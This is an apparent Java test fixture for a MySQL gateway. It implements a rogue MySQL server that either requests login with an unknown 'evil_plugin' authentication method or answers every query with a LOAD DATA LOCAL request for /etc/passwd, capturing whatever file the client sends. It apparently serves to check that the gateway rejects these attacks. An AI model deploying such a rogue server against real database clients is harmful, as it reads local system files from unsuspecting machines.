package dev.tracegate.gateway.mysql;

import dev.tracegate.wire.mysql.AuthSwitchRequest;
import dev.tracegate.wire.mysql.Capabilities;
import dev.tracegate.wire.mysql.HandshakeV10;
import dev.tracegate.wire.mysql.MysqlPacket;
import dev.tracegate.wire.mysql.MysqlPacketReader;
import dev.tracegate.wire.mysql.MysqlPacketWriter;
import dev.tracegate.wire.mysql.OkPacket;
import java.io.IOException;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.CompletableFuture;

/**
 * A hostile upstream: it asks the gateway to log in with a plugin nobody knows, or, once logged
 * in, answers every query by asking for a local file ({@code LOAD DATA LOCAL}) and reports the
 * size of the file it was sent.
 */
final class RogueMysqlServer implements AutoCloseable {

    enum Trick { UNKNOWN_PLUGIN, LOCAL_INFILE }

    private final ServerSocket server;
    private final Trick trick;
    /** The payload the gateway sent when asked for a local file. */
    final CompletableFuture<byte[]> fileSent = new CompletableFuture<>();

    RogueMysqlServer(Trick trick) throws IOException {
        this.trick = trick;
        this.server = new ServerSocket(0);
        Thread.ofVirtual().start(this::serve);
    }

    int port() {
        return server.getLocalPort();
    }

    private void serve() {
        while (!server.isClosed()) {
            try (Socket socket = server.accept()) {
                session(socket);
            } catch (IOException e) {
                // The next connection is served.
            }
        }
    }

    private void session(Socket socket) throws IOException {
        MysqlPacketWriter out = new MysqlPacketWriter(socket.getOutputStream());
        MysqlPacketReader in = new MysqlPacketReader(socket.getInputStream(), 1 << 20);
        long caps = Capabilities.CLIENT_MYSQL | Capabilities.CLIENT_PROTOCOL_41 | Capabilities.CLIENT_SECURE_CONNECTION
                | Capabilities.CLIENT_PLUGIN_AUTH | Capabilities.CLIENT_PLUGIN_AUTH_LENENC_CLIENT_DATA
                | Capabilities.CLIENT_CONNECT_WITH_DB | Capabilities.CLIENT_DEPRECATE_EOF | Capabilities.CLIENT_MULTI_RESULTS
                | Capabilities.CLIENT_MULTI_STATEMENTS | Capabilities.CLIENT_TRANSACTIONS | Capabilities.CLIENT_LOCAL_FILES
                | Capabilities.CLIENT_CONNECT_ATTRS;
        out.write(0, new HandshakeV10("8.0.40-rogue", 1, "abcdefghij0123456789".getBytes(StandardCharsets.US_ASCII), caps,
                45, 2, "mysql_native_password").encode());
        out.flush();
        MysqlPacket response = in.read();
        if (trick == Trick.UNKNOWN_PLUGIN) {
            out.write(response.sequence() + 1, new AuthSwitchRequest("evil_plugin", new byte[] {1, 2, 3, 0}).encode());
            out.flush();
            in.read();
            return;
        }
        out.write(response.sequence() + 1, new OkPacket(0, 0, 2, 0, null).encode());
        out.flush();
        while (true) {
            MysqlPacket command = in.read();
            if (command == null) {
                return;
            }
            byte[] request = ("\u00fb/etc/passwd").getBytes(StandardCharsets.ISO_8859_1);
            out.write(1, request);
            out.flush();
            MysqlPacket file = in.read();
            fileSent.complete(file.payload());
            out.write(file.sequence() + 1, new OkPacket(0, 0, 2, 0, null).encode());
            out.flush();
        }
    }

    @Override
    public void close() throws IOException {
        server.close();
    }
}
